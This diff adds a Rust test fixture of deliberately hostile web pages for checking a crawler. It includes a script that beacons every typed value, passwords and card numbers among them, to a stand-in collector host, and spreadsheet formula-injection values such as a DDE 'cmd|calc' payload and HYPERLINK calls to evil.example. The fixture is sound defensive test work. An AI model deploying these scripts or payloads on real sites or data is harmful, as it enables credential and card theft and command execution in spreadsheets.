@@ -1,0 +1,176 @@
+//! Pages written to be hostile to a crawler (the sites themselves are listed in
+//! [`super::sites::SITES`] at rank 0, with the outcome a crawl must record): forms that must not
+//! be submitted, downloads, loops of dialogs, refreshes, redirects and history moves, popups,
+//! a refused beacon, floods of `document.write`, cookies and pings, focus stealing, WebRTC, and
+//! values a spreadsheet would run as formulas. `tests/hostile_e2e.rs` crawls them all.
+
+/// Paths a crawl must never cause: a submission of a form other than search.
+pub const NEVER_SUBMIT: &str = "/never-submit";
+
+/// The hostile sites, for a test's list (each is in `SITES` with its expected outcome).
+pub const HOSTS: &[&str] = &[
+    "forms-trap.test",
+    "self-submit.test",
+    "hog.test",
+    "dialog-loop.test",
+    "refresh-loop.test",
+    "redirect-loop.test",
+    "download.test",
+    "download-after.test",
+    "popups.test",
+    "big-beacon.test",
+    "history-loop.test",
+    "focus-steal.test",
+    "docwrite-flood.test",
+    "giant-cookies.test",
+    "webrtc.test",
+    "ping-flood.test",
+    "formula.test",
+];
+
+/// Forms that look searchable by a field's name but are not search forms, a checkout form,
+/// and one real search form (which the visitor must still use). A spy sends what the visitor
+/// types (form, field, value) to a recorder, as session recorders do, so the test can read
+/// which value reached which field.
+pub const FORMS_TRAP: &str = r#"
+<form id="newsletter" action="/never-submit?form=newsletter" method="post">
+  <label>Email <input type="email" name="email"></label>
+  <label>Topic <input type="text" name="q" placeholder="Topics you like"></label>
+  <button type="submit">Subscribe</button>
+</form>
+<form id="login" action="/never-submit?form=login" method="post">
+  <label>User <input type="text" name="s" autocomplete="username"></label>
+  <label>Password <input type="password" name="pw"></label>
+  <button type="submit">Sign in</button>
+</form>
+<form id="checkout" action="/never-submit?form=checkout" method="post">
+  <label>Card holder <input type="text" name="cardholder" autocomplete="cc-name"></label>
+  <label>Card number <input type="text" name="cardnumber" autocomplete="cc-number" inputmode="numeric"></label>
+  <label>Expiry <input type="text" name="exp" autocomplete="cc-exp"></label>
+  <label>CVC <input type="text" name="cvc" autocomplete="cc-csc"></label>
+  <label>Coupon <input type="text" name="q"></label>
+  <button type="submit">Pay</button>
+</form>
+<form id="site-search" role="search" action="/search" method="get">
+  <input type="search" name="q" aria-label="Search this site"><button type="submit">Search</button>
+</form>
+<script>
+// Any submission at all is logged by the server; a submit event is also reported.
+document.addEventListener('submit', function (e) {
+  navigator.sendBeacon('https://collect.recorder-demo.test/v1/submit-event', e.target.id);
+}, true);
+</script>
+<script>
+document.addEventListener('input', function (e) {
+  var t = e.target; if (!t || !('value' in t)) return;
+  clearTimeout(t.__spy); t.__spy = setTimeout(function () {
+    navigator.sendBeacon('https://collect.recorder-demo.test/v1/typed', JSON.stringify({form: t.form ? t.form.id : '', field: t.name || t.id, value: t.value}));
+  }, 50);
+}, true);
+</script>
+"#;
+
+/// A form whose own script submits it when a field changes: the page's doing, recorded as
+/// such, never the visitor's.
+pub const SELF_SUBMIT: &str = r#"
+<form id="autosave" action="/self-submit" method="post">
+  <label>Email <input type="email" name="email" onchange="this.form.submit()"></label>
+</form>
+"#;
+
+/// An alert, confirm and prompt every 10 ms from load on.
+pub const DIALOG_LOOP: &str = r#"<script>
+setInterval(function () { alert('Hello'); confirm('Stay?'); prompt('Your name?'); }, 10);
+</script>"#;
+
+/// A page that refreshes itself at once, forever.
+pub const REFRESH_LOOP: &str = r#"<meta http-equiv="refresh" content="0">"#;
+
+/// After load, the page sends the browser to a 50 MB attachment.
+pub const DOWNLOAD_AFTER: &str = r#"<script>
+window.addEventListener('load', function () { setTimeout(function () { location.href = '/attachment.bin'; }, 200); });
+</script>"#;
+
+/// Fifty popups at load (the popup blocker's job) and one more on any click (a click is a
+/// user gesture, so that one opens). Each popup sends a beacon every 200 ms for as long as it
+/// lives.
+pub const POPUPS: &str = r#"<script>
+window.addEventListener('load', function () { for (var i = 0; i < 50; i++) window.open('/popup?n=' + i, '_blank'); });
+document.addEventListener('click', function () { window.open('/popup?n=clicked', '_blank'); }, true);
+</script>"#;
+
+/// The page a popup shows.
+pub const POPUP_PAGE: &str = r#"<!doctype html><html><head><title>Popup</title></head><body><p>Popup</p><script>
+setInterval(function () { navigator.sendBeacon('/popup-beacon?at=' + Date.now(), 'alive'); }, 200);
+</script></body></html>"#;
+
+/// A 10 MB beacon, which Chromium refuses (over the keep-alive quota), and a small one it sends.
+pub const BIG_BEACON: &str = r#"<script>
+window.addEventListener('load', function () {
+  var ok = navigator.sendBeacon('https://collect.recorder-demo.test/v1/big-beacon', 'x'.repeat(10 * 1024 * 1024));
+  navigator.sendBeacon('https://collect.recorder-demo.test/v1/small-beacon?big_sent=' + ok, 'small');
+});
+</script>"#;
+
+/// `history.back()` and `pushState` in a tight loop.
+pub const HISTORY_LOOP: &str = r#"<script>
+var n = 0;
+setInterval(function () { history.pushState({n: ++n}, '', '#s' + n); history.back(); }, 5);
+window.addEventListener('popstate', function () { history.back(); });
+</script>"#;
+
+/// Takes the focus back to a decoy field every 5 ms.
+pub const FOCUS_STEAL: &str = r#"
+<form id="contact" action="/never-submit?form=contact" method="post">
+<label>Email <input type="email" name="email"></label> <label>Decoy <input type="text" id="decoy" name="decoy"></label>
+</form>
+<script>setInterval(function () { var d = document.getElementById('decoy'); if (d) d.focus(); }, 5);</script>
+"#;
+
+/// After load, rewrites the document with 100 KB of text every millisecond for 3 s.
+pub const DOCWRITE_FLOOD: &str = r#"<script>
+window.addEventListener('load', function () {
+  var chunk = '<p>' + 'flood '.repeat(20000) + '</p>', end = Date.now() + 3000;
+  var t = setInterval(function () { if (Date.now() > end) { clearInterval(t); return; } document.write(chunk); }, 1);
+});
+</script>"#;
+
+/// 180 cookies of 4 KB each (Chromium's per-domain limits), set by script.
+pub const GIANT_COOKIES: &str = r#"<script>
+var v = 'c'.repeat(3990);
+for (var i = 0; i < 180; i++) document.cookie = 'big' + i + '=' + v + '; path=/; max-age=3600';
+new Image().src = '/after-cookies.gif';
+</script>"#;
+
+/// A WebRTC peer connection gathering candidates through a STUN server.
+pub const WEBRTC: &str = r#"<script>
+try {
+  var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:stun.webrtc.test:3478'}]});
+  pc.createDataChannel('x');
+  pc.onicecandidate = function (e) { if (e.candidate) navigator.sendBeacon('https://collect.recorder-demo.test/v1/ice', e.candidate.candidate); };
+  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
+} catch (e) {}
+</script>"#;
+
+/// 300 links with `ping`, each clicked by the page's script (same-page fragments).
+pub const PING_FLOOD: &str = r#"<div id="pings"></div><script>
+window.addEventListener('load', function () {
+  var box = document.getElementById('pings');
+  for (var i = 0; i < 300; i++) {
+    var a = document.createElement('a'); a.href = '#p' + i; a.ping = 'https://collect.recorder-demo.test/v1/ping?i=' + i; a.textContent = '.';
+    box.appendChild(a); a.click();
+  }
+});
+</script>"#;
+
+/// Values a spreadsheet would run as formulas, from every place a page controls: host names
+/// of third parties (which become tracker and company names), a request method, cookie names
+/// and values, the title and the URL.
+pub const FORMULA: &str = r#"<script>
+document.title = '=HYPERLINK("http://evil.example","title")';
+document.cookie = '@SUM(1+1)=-2+3; path=/';
+new Image().src = 'https://=1+1.evil/p.gif?id=%3DCMD';
+new Image().src = 'https://+cmd.evil/p.gif?e=@SUM(1)';
+fetch('https://-2+3.evil/collect', {method: "+cmd|'calc'!A0", mode: 'cors'}).catch(function () {});
+history.replaceState(null, '', '/=1+2');
+</script>"#;
